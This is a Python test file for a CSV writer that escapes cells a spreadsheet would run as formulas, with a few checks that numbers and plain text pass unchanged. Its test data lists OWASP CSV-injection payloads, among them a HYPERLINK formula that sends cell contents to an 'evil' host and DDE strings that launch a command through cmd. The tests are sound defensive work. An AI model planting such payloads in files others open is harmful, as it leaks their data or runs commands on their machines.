"""Cells that a spreadsheet program would run as formulas; the list is OWASP's of CSV injection."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.csv_cells import csv_text, unquoted


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-sub01",
    ],
)
def test_a_formula_is_written_as_text(cell: str) -> None:
    ((written,),) = cells(csv_text([[cell]]))
    assert written == f"'{cell}"


@pytest.mark.parametrize("cell", ["-0.25", "+0.031", "+0.012 to +0.030", "-1e-05", "-", "casme2/sub01/EP02", "a=b", ""])
def test_numbers_and_plain_words_stay(cell: str) -> None:
    assert cells(csv_text([[cell, -0.5, 3]])) == [[cell, "-0.5", "3"]]


@given(st.lists(st.lists(st.text(st.sampled_from("=+-@\t\r\n'\",;1e a")), min_size=2, max_size=2), max_size=3))
def test_any_cell_is_read_as_it_was(rows: list[list[str]]) -> None:
    assert [[unquoted(cell) for cell in row] for row in cells(csv_text(rows))] == rows
